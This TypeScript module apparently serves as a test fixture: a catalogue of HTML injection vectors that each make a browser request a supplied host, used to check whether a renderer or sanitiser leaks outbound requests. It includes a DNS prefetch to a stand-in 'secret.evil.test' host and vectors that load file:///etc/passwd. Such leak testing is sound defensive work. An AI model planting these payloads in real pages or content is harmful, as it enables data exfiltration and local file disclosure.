/** Markup that makes a browser request `to` (`host:port`). */
export type MarkupVector = (to: string) => string;

const nested = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** Vectors by name. Each requests an address that contains its name, so that a leak can be traced to its vector. */
export const markupVectors: Readonly<Record<string, MarkupVector>> = {
  img: (to) =>
    `<img src="http://${to}/img"><img srcset="http://${to}/srcset 2x"><picture><source srcset="http://${to}/picture"><img></picture><input type="image" src="http://${to}/input"><table background="http://${to}/table"></table>`,
  script: (to) =>
    `<script src="http://${to}/script"></script><script type="module" src="http://${to}/module"></script>`,
  css: (to) =>
    `<link rel="stylesheet" href="http://${to}/css"><link rel="alternate stylesheet" title="a" href="http://${to}/alternate"><style>@import url(http://${to}/import); div { background: url(http://${to}/background); list-style: url(http://${to}/list-style); cursor: url(http://${to}/cursor), auto; mask: url(http://${to}/mask); } div::before { content: url(http://${to}/content); }</style><div>styled</div>`,
  font: (to) =>
    `<style>@font-face { font-family: f; src: url(http://${to}/font); } b { font-family: f; }</style><b>f</b>`,
  media: (to) =>
    `<video src="http://${to}/video" poster="http://${to}/poster" autoplay muted></video><audio src="http://${to}/audio" preload="auto"></audio><video autoplay muted><source src="http://${to}/source"><track default src="http://${to}/track"></video>`,
  object: (to) =>
    `<object data="http://${to}/object"></object><object type="text/html" data="http://${to}/object-html"></object><embed src="http://${to}/embed">`,
  svg: (to) =>
    `<svg><image href="http://${to}/svg"/><use href="http://${to}/use#a"/><filter><feImage href="http://${to}/feimage"/></filter><script href="http://${to}/svg-script"></script></svg>`,
  iframe: (to) =>
    `<iframe src="http://${to}/iframe"></iframe><iframe srcdoc="${nested(`<img src="http://${to}/srcdoc">`)}"></iframe><iframe src="data:text/html,${encodeURIComponent(`<img src="http://${to}/data-frame">`)}"></iframe><iframe sandbox src="http://${to}/sandbox"></iframe>`,
  hints: (to) =>
    `<link rel="prefetch" href="http://${to}/prefetch"><link rel="preload" as="fetch" href="http://${to}/preload"><link rel="preload" as="image" href="http://${to}/preload-image"><link rel="modulepreload" href="http://${to}/modulepreload"><link rel="icon" href="http://${to}/icon"><link rel="manifest" href="http://${to}/manifest"><link rel="compression-dictionary" href="http://${to}/dictionary">`,
  preconnect: (to) =>
    `<link rel="preconnect" href="http://${to}"><link rel="preconnect" crossorigin href="http://${to}">`,
  'dns-prefetch': (to) => `<link rel="dns-prefetch" href="//${to}"><link rel="dns-prefetch" href="//secret.evil.test">`,
  speculation: (to) =>
    `<script type="speculationrules">${JSON.stringify({
      prefetch: [{ source: 'list', urls: [`http://${to}/speculation`] }],
      prerender: [{ source: 'list', urls: [`http://${to}/prerender`] }],
    })}</script>`,
  'nested-frames': (to) =>
    `<iframe srcdoc="${nested(`<iframe srcdoc="${nested(`<script src="http://${to}/nested"></script>`)}"></iframe>`)}"></iframe>`,
  file: () =>
    '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><embed src="view-source:file:///etc/passwd">',
};
